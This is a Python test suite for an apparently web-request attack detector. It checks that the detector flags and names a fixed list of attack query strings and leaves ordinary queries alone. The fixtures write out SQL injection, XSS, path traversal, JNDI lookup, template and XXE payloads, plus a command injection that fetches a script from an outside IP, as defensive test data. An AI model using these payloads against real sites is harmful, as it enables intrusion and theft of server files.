from __future__ import annotations

import math

import numpy as np
import polars as pl
import pytest

from vedette.abc import MALICIOUS
from vedette.detectors.web import TECHNIQUES, Web
from vedette.features.web_facts import KINDS, OTHER
from vedette.features.web_request import WebRequest
from vedette.learning.registry import equip
from vedette.model import Severity
from vedette.scoring.additive import Additive
from vedette.scoring.artefact import Model
from vedette.scoring.calibration import Calibration
from vedette.testing.requests import requests
from vedette.testing.rows import rows_of

QUERY, REFERRER = "http_request.url.query_string", "http_request.referrer"

ATTACKS = {
    "id=1%27+union+select+null,version()--+-": "SQL injection",
    "id=1%27%20or%20%271%27=%271": "SQL injection",
    "id=1;waitfor+delay+'0:0:5'--": "SQL injection",
    "q=%253Cscript%253Ealert(1)%253C/script%253E": "Cross-site scripting",
    "q=%22%3E%3Csvg%20onload=alert(1)%3E": "Cross-site scripting",
    "f=..%2f..%2f..%2fetc%2fpasswd": "Path traversal",
    "f=php://filter/convert.base64-encode/resource=index.php": "Path traversal",
    "ip=127.0.0.1;cat+/etc/passwd": "Command injection",
    "ip=$(wget+http://203.0.113.5/x.sh)": "Command injection",
    "t={{''.__class__.__mro__[1].__subclasses__()}}": "Template injection",
    "x=$%7B$%7Blower:j%7Dndi:ldap://203.0.113.5/a%7D": "Lookup injection",
    "x=%3C!DOCTYPE%20a%20[%3C!ENTITY%20b%20SYSTEM%20%22http://h.example/a%22%3E]%3E": "Markup injection",
}
ORDINARY = (
    "q=select+a+gift+from+our+union+shop",
    "q=O%27Neil+and+sons",
    "q=rock%27n%27roll+%26+more",
    "q=c%C3%B4te+d%27ivoire",
    "q=%E6%95%B0%E6%8D%AE%E5%BA%93",
    "next=https%3A%2F%2Fwww.example.com%2Fa%3Fb%3Dc",
    "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    "filter=%7B%22a%22:%5B1,2%5D,%22b%22:%22c%22%7D",
    "utm_source=news&utm_medium=mail&gclid=Cj0KCQjw",
    "id=550e8400-e29b-41d4-a716-446655440000&t=2024-05-06T10:00:00%2B02:00",
    "v=6.5.3",
    None,
)


@pytest.fixture
def chance() -> Web:
    """Return a detector whose weights are drawn: what holds for it holds for any model."""
    rng = np.random.default_rng(1)
    weights = {
        b.name: rng.normal(size=b.slots).astype(np.float32) for b in Web.encode(rows_of(WebRequest, requests(1)))
    }
    table = Calibration(np.zeros(1), np.ones(1, np.int64), 1, np.zeros(1), np.full(1, 0.5), 0.01)
    return Web(Model("web", "x", Web.encoder_version(), Additive(0.3, weights), table, np.ones(1 << 16, np.bool_)))


def _rows(queries: list[str | None], **columns: object) -> pl.DataFrame:
    return rows_of(WebRequest, requests(len(queries), **{QUERY: queries, **columns}))  # type: ignore[arg-type]


def test_contributions_are_the_margin_to_the_last_digit(chance: Web) -> None:
    rows = _rows([*ATTACKS, *ORDINARY, "", "a=" + "é'\"<" * 500, "%ff%fe%00=1", "\x1e\x1f'"])
    margins = chance.margins(rows)
    for margin, parts in zip(margins, chance.contributions(rows), strict=True):
        assert math.isclose(0.3 + math.fsum(p.nats for p in parts), margin, abs_tol=1e-6)
        assert all(p.text for p in parts)


def test_attacks_are_found_and_called_by_their_name() -> None:
    detector, rows = equip(Web), _rows(list(ATTACKS))
    assert isinstance(detector, Web)
    said = detector.judge(rows)
    missed = [q for q, verdict in zip(ATTACKS, said["verdict"], strict=True) if verdict != MALICIOUS]
    assert not missed
    assert dict(zip(ATTACKS, detector.titles(rows), strict=True)) == ATTACKS


def test_ordinary_requests_are_left_alone() -> None:
    detector, rows = equip(Web), _rows(list(ORDINARY))
    assert isinstance(detector, Web)
    said = detector.judge(rows)
    assert [q for q, verdict in zip(ORDINARY, said["verdict"], strict=True) if verdict == MALICIOUS] == []


def test_nothing_beside_makes_an_attack_look_better() -> None:
    detector = equip(Web)
    attacks = list(ATTACKS)
    padded = [f"page=2&lang=en&{q}&utm_source=news&a=1" for q in attacks]
    alone, among = detector.score(_rows([*attacks])), detector.score(_rows([*padded]))
    assert (among >= alone).all()


def test_an_attack_outside_the_parameters_is_found() -> None:
    detector = equip(Web)
    assert isinstance(detector, Web)
    lookup = "${jndi:ldap://203.0.113.5/a}"
    rows = pl.concat(
        [
            _rows([None], agent=lookup),
            _rows([None], **{REFERRER: f"http://h.example/?x={lookup}"}),
            _rows([None], path="/.git/config"),
        ]
    )
    assert detector.judge(rows)["verdict"].to_list() == [MALICIOUS] * 3


def test_the_place_is_told() -> None:
    detector, rows = equip(Web), _rows(["page=2&id=1%27+union+select+null,version()--+-"])
    [told] = detector.summaries(rows)
    assert told.startswith("198.51.100.5 tried SQL injection on shop.example: GET /; ")
    assert told.endswith("; parameter `id` holds `1' union select null,version()-- -`; the server answered 200.")
    heaviest, *_ = detector.reasons(rows)[0]
    assert (heaviest.attribute, "in parameter `id`" in heaviest.text) == ("sql_union", True)


def test_success_makes_it_worse() -> None:
    detector = equip(Web)
    called = requests(3, path="/uploads/c99.php", code=[200, 404, None], **{QUERY: "cmd=id"})  # type: ignore[arg-type]
    rows = rows_of(WebRequest, called)
    assert detector.severities(rows) == [Severity.CRITICAL, Severity.HIGH, Severity.HIGH]
    probes = rows_of(WebRequest, requests(2, path="/.env", code=[404, 200]))
    assert detector.severities(probes) == [Severity.LOW, Severity.MEDIUM]


def test_every_kind_has_techniques() -> None:
    assert set(TECHNIQUES) == {*KINDS, OTHER}


def test_what_cannot_be_read_is_not_judged() -> None:
    rows = _rows(["x=" + "ab" * 9_000, "x=" + "%01%02%03%04" * 50, "x=" + "../" * 6_000, "x=1"])
    assert [u is not None for u in Web.unsuited(rows)] == [True, True, False, False]
